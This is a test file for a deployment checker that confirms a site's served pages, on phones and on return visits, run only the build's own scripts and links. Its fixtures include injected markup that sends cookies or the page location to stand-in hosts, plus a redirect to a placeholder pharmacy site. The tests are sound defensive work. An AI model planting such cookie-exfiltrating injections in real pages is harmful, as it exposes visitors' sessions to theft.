import { describe, expect, it } from 'vitest';
import type { Reply } from '../../scripts/check-deployment/http';
import {
  codeOf,
  cookiesSetBy,
  IN_APP_PAGE_HEADERS,
  IPHONE_PAGE_HEADERS,
  pageCodeOutcome,
  type PageAsSeen,
} from '../../scripts/check-deployment/page-code';

/**
 * check:deployment's line "pages run only the build's scripts, on a phone and on a second visit too" (red-team,
 * session 23); check-deployment.test.ts runs it against a host that adds a script, and one that answers phones and
 * returning visitors otherwise.
 */
const site = new URL('https://www.floors.example');
const loader = `<script data-entry="/assets/index-AbC123.js">(()=>{document.getElementById('root')})()</script>`;
const built = `<!doctype html><html><head><link rel="stylesheet" href="/assets/index-Css1.css"><script type="application/ld+json">{"@type":"LocalBusiness"}</script></head><body><h1>Refer Your Clients.</h1>${loader}</body></html>`;
const reply = (body: string, status = 200, headers: Reply['headers'] = { 'content-type': 'text/html' }): Reply => ({
  status,
  headers,
  body,
});
const seen = (first: string, extra: Partial<PageAsSeen> = {}): PageAsSeen => ({
  page: '/realtors',
  built,
  first: reply(first),
  phone: reply(first),
  ...extra,
});

describe('the line on the code the pages run, and what phones and returning visitors get', () => {
  it("is ok when every page runs only its built file's scripts and a phone and a second visit get the same page", () => {
    expect(pageCodeOutcome(site, [seen(built, { secondVisit: reply(built) })], 'visitor=1', 'dist')).toEqual({
      ok: true,
      detail:
        "the 1 pages run only scripts the pages in dist/ have, and phones (Android's Chrome, an iPhone's Safari, Instagram's browser) and returning visitors (with the cookies the pages set) get the same pages",
    });
  });

  it("fails a script the build does not have, added as served: another site's, an inline one, an event handler, one of the site's own outside the build", () => {
    const withTag = built.replace(
      '</head>',
      '<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-X1"></script></head>',
    );
    const withInline = built.replace(
      '</body>',
      '<script>fetch("https://collector.example/"+document.cookie)</script></body>',
    );
    const withHandler = built.replace('<h1>', '<img src="x" onerror="new Image().src=\'//c.example/\'+location"><h1>');
    const withOwn = built.replace('</body>', '<script src="/tracker.js"></script></body>');
    for (const [served, named] of [
      [withTag, 'the script https://www.googletagmanager.com/gtm.js?id=GTM-X1'],
      [withInline, 'an inline script "fetch("https://collector.example/"+document.cookie)…"'],
      [withHandler, `an inline onerror handler "new Image().src='//c.example/'+location"`],
      [withOwn, 'the script /tracker.js'],
    ]) {
      const outcome = pageCodeOutcome(site, [seen(served!)], undefined, 'dist');
      expect(outcome.ok).toBe(false);
      expect(outcome.detail).toContain(`/realtors runs ${named}, which the build does not have`);
    }
  });

  it("leaves out a CDN's own scripts on the site's origin (Cloudflare's /cdn-cgi/ bot check) and data blocks", () => {
    const cloudflare = built.replace(
      '</body>',
      `<script>(function(){var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';document.head.appendChild(a)})();</script><script defer src="/cdn-cgi/scripts/email-decode.min.js"></script><script type="application/ld+json">{"extra":1}</script></body>`,
    );
    expect(pageCodeOutcome(site, [seen(cloudflare)], undefined, 'dist').ok).toBe(true);
    // Its tag manager Zaraz, on the site's address too, hands visits to the tools set in its dashboard: not left out
    // (session 24), whether started inline or by its address.
    const zaraz = built.replace(
      '</head>',
      `<script>(function(w,d){w.zaraz={};var s=d.createElement('script');s.src='/cdn-cgi/zaraz/s.js?z='+btoa('{}');d.head.appendChild(s)})(window,document)</script></head>`,
    );
    expect(pageCodeOutcome(site, [seen(zaraz)], undefined, 'dist').detail).toMatch(
      /^\/realtors runs an inline script "\(function\(w,d\)\{w\.zaraz=\{\};var s=d\.createElement\('script'\);s\.…", which the build does not have/,
    );
    const zarazByAddress = built.replace('</head>', '<script src="/cdn-cgi/zaraz/i.js"></script></head>');
    expect(pageCodeOutcome(site, [seen(zarazByAddress)], undefined, 'dist').detail).toContain(
      '/realtors runs the script /cdn-cgi/zaraz/i.js, which the build does not have',
    );
    // Its analytics beacon is another address, which the privacy page would have to name: not left out.
    const beacon = built.replace(
      '</body>',
      `<script defer src='https://static.cloudflareinsights.com/beacon.min.js' data-cf-beacon='{"token":"t"}'></script></body>`,
    );
    expect(pageCodeOutcome(site, [seen(beacon)], undefined, 'dist').detail).toContain(
      'runs the script https://static.cloudflareinsights.com/beacon.min.js, which the build does not have',
    );
  });

  it('fails a page that a phone or a returning visitor gets otherwise than the first answer: another page, another build, a script more, a redirect', () => {
    const otherBuild = built.replace('index-AbC123.js', 'index-0ld999.js');
    const withScript = built.replace('</body>', '<script src="https://ads.example/m.js"></script></body>');
    expect(pageCodeOutcome(site, [seen(built, { phone: reply(otherBuild) })], undefined, 'dist').detail).toMatch(
      /^\/realtors on a phone: \/assets\/index-0ld999\.js where the first answer names \/assets\/index-AbC123\.js \(another build\)[:;] /,
    );
    expect(
      pageCodeOutcome(
        site,
        [seen(built, { phone: reply('', 302, { location: 'https://m.floors.example/realtors' }) })],
        undefined,
        'dist',
      ).detail,
    ).toMatch(/^\/realtors on a phone: status 302 to https:\/\/m\.floors\.example\/realtors[:;] /);
    expect(pageCodeOutcome(site, [seen(built, { secondVisit: reply(withScript) })], 'seen=1', 'dist').detail).toMatch(
      /^\/realtors on a second visit \(with the cookies the pages set\): the script https:\/\/ads\.example\/m\.js, which the first answer does not run[:;] /,
    );
    expect(
      pageCodeOutcome(
        site,
        [seen(built, { phone: reply(built.replace('Refer Your Clients.', 'Download our app')) })],
        undefined,
        'dist',
      ).detail,
    ).toMatch(/^\/realtors on a phone: the heading "Download our app"[:;] /);
  });

  it("fails a page that an iPhone's Safari or Instagram's browser gets otherwise, and asks them as they ask (session 24)", () => {
    const withScript = built.replace('</body>', '<script src="https://ios.example/m.js"></script></body>');
    expect(pageCodeOutcome(site, [seen(built, { iPhone: reply(withScript) })], undefined, 'dist').detail).toMatch(
      /^\/realtors on an iPhone: the script https:\/\/ios\.example\/m\.js, which the first answer does not run[:;] /,
    );
    expect(pageCodeOutcome(site, [seen(built, { inApp: reply(withScript) })], undefined, 'dist').detail).toMatch(
      /^\/realtors in Instagram's browser on an iPhone: the script https:\/\/ios\.example\/m\.js, which the first answer does not run[:;] /,
    );
    // Safari sends no client hints: a request that names Android or Chrome's hints is not an iPhone's.
    expect(
      Object.keys(IPHONE_PAGE_HEADERS).filter(
        (name) =>
          IPHONE_PAGE_HEADERS[name as keyof typeof IPHONE_PAGE_HEADERS] !== undefined && name.startsWith('sec-ch-'),
      ),
    ).toEqual([]);
    expect(IPHONE_PAGE_HEADERS['user-agent']).toMatch(/iPhone.*Version\/[\d.]+ Mobile\/\S+ Safari\//);
    expect(IN_APP_PAGE_HEADERS['user-agent']).toMatch(/iPhone.*Instagram/);
    expect(IN_APP_PAGE_HEADERS['user-agent']).not.toMatch(/Safari/);
  });

  it("fails what a page fetches from another site or sends a visitor's input to that the build's pages do not: a pixel, a stylesheet, a frame, a form's action, a base, a refresh (session 24)", () => {
    const own = built.replace(
      '</body>',
      '<img src="/images/a.webp"><link rel="icon" href="/favicon.svg"><a href="https://www.facebook.com/x">Facebook</a><form class="f"></form></body>',
    );
    expect(pageCodeOutcome(site, [seen(own, { built: own })], undefined, 'dist').ok).toBe(true);
    for (const [added, named] of [
      ['<img src="https://px.example/p.gif?u=1" width="1" height="1">', 'the image https://px.example/p.gif?u=1'],
      ['<link rel="stylesheet" href="https://css.example/s.css">', 'the stylesheet https://css.example/s.css'],
      ['<iframe src="/chat.html"></iframe>', 'a frame of https://www.floors.example/chat.html'],
      ['<form action="https://forms.example/lead"></form>', 'a form that sends to https://forms.example/lead'],
      ['<base href="https://cdn.example/">', '<base href="https://cdn.example/">'],
      ['<meta http-equiv="refresh" content="0;url=https://m.example/">', 'a refresh "0;url=https://m.example/"'],
      [
        '<style>@import url(https://css.example/i.css);</style>',
        'an inline style "@import url(https://css.example/i.css);…"',
      ],
    ]) {
      const outcome = pageCodeOutcome(
        site,
        [seen(own.replace('</body>', `${added}</body>`), { built: own })],
        undefined,
        'dist',
      );
      expect(outcome.ok, added).toBe(false);
      expect(outcome.detail).toContain(`/realtors has ${named}, which the build does not have`);
    }
    // And a phone given a pixel the first answer does not have.
    expect(
      pageCodeOutcome(
        site,
        [
          seen(own, {
            built: own,
            iPhone: reply(own.replace('</body>', '<img src="https://px.example/p.gif"></body>')),
          }),
        ],
        undefined,
        'dist',
      ).detail,
    ).toMatch(
      /^\/realtors on an iPhone: the image https:\/\/px\.example\/p\.gif, which the first answer does not have[:;] /,
    );
  });

  it("fails a Refresh header and a Link header that loads another site's file, which no build sends, and not a Link to the site's own (session 28)", () => {
    const headers = (more: Reply['headers']) => ({ 'content-type': 'text/html', ...more });
    const outcome = pageCodeOutcome(
      site,
      [
        seen(built, { first: reply(built, 200, headers({ refresh: '0; url=https://pharmacy.test/' })), phone: reply(built, 200, headers({ refresh: '0; url=https://pharmacy.test/' })) }),
        {
          ...seen(built, { first: reply(built, 200, headers({ link: '</assets/index-Css1.css>; rel=preload; as=style, <https://collector.test/p.css>; rel="stylesheet"' })) }),
          page: '/terms',
        },
      ],
      undefined,
      'dist',
    );
    expect(outcome.ok).toBe(false);
    expect(outcome.detail).toMatch(
      /^\/realtors comes with a Refresh header "0; url=https:\/\/pharmacy\.test\/", which no build sends; \/terms comes with a Link header's stylesheet of https:\/\/collector\.test\/p\.css, which no build sends: /,
    );
    // Given only to visitors from a search: held to the first answer.
    const arrived = pageCodeOutcome(site, [seen(built, { arrivals: [reply(built, 200, headers({ refresh: '0; url=https://pharmacy.test/' }))] })], undefined, 'dist');
    expect(arrived.detail).toMatch(/^\/realtors from a Google search \(with an ad click id\): a Refresh header "0; url=https:\/\/pharmacy\.test\/", which the first answer does not have: /);
  });

  it("fails a page that gives a phone number, e-mail address or link to another site the build does not have, and not Cloudflare's e-mail obfuscation (session 28)", () => {
    const footer = `<footer><a href="tel:+18565550142">(856) 555-0142</a> <a href="mailto:office@floors.example">office@floors.example</a> <a href="https://www.facebook.com/floors">Facebook</a></footer>`;
    const builtPage = built.replace('</body>', `${footer}</body>`);
    const swapped = builtPage
      .replace('tel:+18565550142', 'tel:+16095550199')
      .replace('(856) 555-0142', '(609) 555-0199')
      .replace('https://www.facebook.com/floors', 'https://www.facebook.com/floors.deals');
    const outcome = pageCodeOutcome(site, [seen(swapped, { built: builtPage, phone: reply(swapped) })], undefined, 'dist');
    expect(outcome.detail).toMatch(
      /^\/realtors gives the phone number \+16095550199 \(a tel: link\), a link to https:\/\/www\.facebook\.com\/floors\.deals, which the build does not have: /,
    );
    // The same number written otherwise, and Cloudflare's e-mail obfuscation (a link on the site itself): nothing new.
    const obfuscated = builtPage
      .replace('<a href="mailto:office@floors.example">office@floors.example</a>', '<a href="/cdn-cgi/l/email-protection#a1b2c3" class="__cf_email__" data-cfemail="a1b2c3">[email&#160;protected]</a>')
      .replace('(856) 555-0142', '856-555-0142');
    expect(pageCodeOutcome(site, [seen(obfuscated, { built: builtPage, phone: reply(obfuscated) })], undefined, 'dist').ok).toBe(true);
    // A number given only to visitors from an advert is held to the first answer.
    const arrived = pageCodeOutcome(site, [seen(builtPage, { built: builtPage, phone: reply(builtPage), arrivals: [reply(builtPage), reply(swapped)] })], undefined, 'dist');
    expect(arrived.detail).toMatch(/^\/realtors from an Instagram advert, in Instagram's browser: the phone number \+16095550199 \(a tel: link\), a link to https:\/\/www\.facebook\.com\/floors\.deals, which the first answer does not give: /);
  });

  it('fails a phone that gets the page without the HSTS or content security policy header the first answer has, whatever the policy says (session 28)', () => {
    const guarded = reply(built, 200, { 'content-type': 'text/html', 'strict-transport-security': 'max-age=31536000', 'content-security-policy': "frame-ancestors 'none'" });
    const bare = reply(built, 200, { 'content-type': 'text/html' });
    expect(pageCodeOutcome(site, [seen(built, { first: guarded, phone: bare })], undefined, 'dist').detail).toMatch(
      /^\/realtors on a phone: no strict-transport-security and no content-security-policy header, which the first answer has: /,
    );
    // Another nonce, the same headers: nothing dropped.
    const renonced = reply(built, 200, { 'content-type': 'text/html', 'strict-transport-security': 'max-age=31536000', 'content-security-policy': "frame-ancestors 'none'; script-src 'nonce-b'" });
    expect(pageCodeOutcome(site, [seen(built, { first: guarded, phone: renonced })], undefined, 'dist').ok).toBe(true);
  });

  it('says not checked without the build, unless a phone or a second visit already differs', () => {
    expect(pageCodeOutcome(site, [seen(built, { built: undefined })], undefined, 'dist')).toMatchObject({
      ok: false,
      skipped: true,
    });
    const outcome = pageCodeOutcome(
      site,
      [
        seen(built, {
          built: undefined,
          phone: reply(built.replace('</body>', '<script src="/m.js"></script></body>')),
        }),
      ],
      undefined,
      'dist',
    );
    expect([outcome.ok, 'skipped' in outcome]).toEqual([false, false]);
  });

  it('reads the scripts and cookies as a browser would', () => {
    expect([...codeOf(built, site).values()]).toEqual([
      `an inline script "(()=>{document.getElementById('root')})()…"`,
    ]);
    expect(
      cookiesSetBy([
        reply('', 200, { 'set-cookie': ['a=1; Path=/; HttpOnly', 'b=x=y; Secure'] }),
        reply('', 200, { 'set-cookie': ['a=2'] }),
      ]),
    ).toBe('a=2; b=x=y');
    expect(cookiesSetBy([reply('')])).toBeUndefined();
  });
});
